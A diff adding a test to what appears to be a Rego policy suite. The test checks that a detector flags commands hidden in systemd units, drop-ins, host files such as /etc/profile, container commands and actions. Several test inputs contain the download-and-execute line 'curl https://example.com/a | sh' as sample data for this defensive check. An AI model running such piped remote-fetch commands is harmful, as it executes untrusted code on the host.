@@ -93,3 +93,17 @@ test_commands_are_read if {
 	found({"files": [{"path": "/a", "check": command}]}, {}) == {["spec", "files", 0, "check"]}
 	found({"probes": [{"name": "a", "command": ["/bin/true"]}]}, {}) == set()
 }
+
+test_units_blocks_containers_and_actions_are_looked_at if {
+	piped := "ExecStart=/bin/sh -c 'curl https://example.com/a | sh'"
+	every spec in [
+		{"services": [{"name": "a.service", "unit": piped}]},
+		{"services": [{"name": "a.service", "dropIns": [{"name": "a.conf", "content": piped}]}]},
+		{"services": [{"name": "a.service", "source": "files/a"}]},
+		{"hostFiles": [{"path": "/etc/profile", "content": "curl https://example.com/a | sh"}]},
+		{"containers": [{"name": "a", "command": ["/bin/sh", "-c", "curl https://example.com/a | sh"]}]},
+		{"actions": [{"name": "a", "run": ["/bin/sh", "-c", "curl https://example.com/a | sh"]}]},
+	] {
+		count(found(spec, {"files/a": concat("\n", ["[Service]", piped])})) == 1
+	}
+}
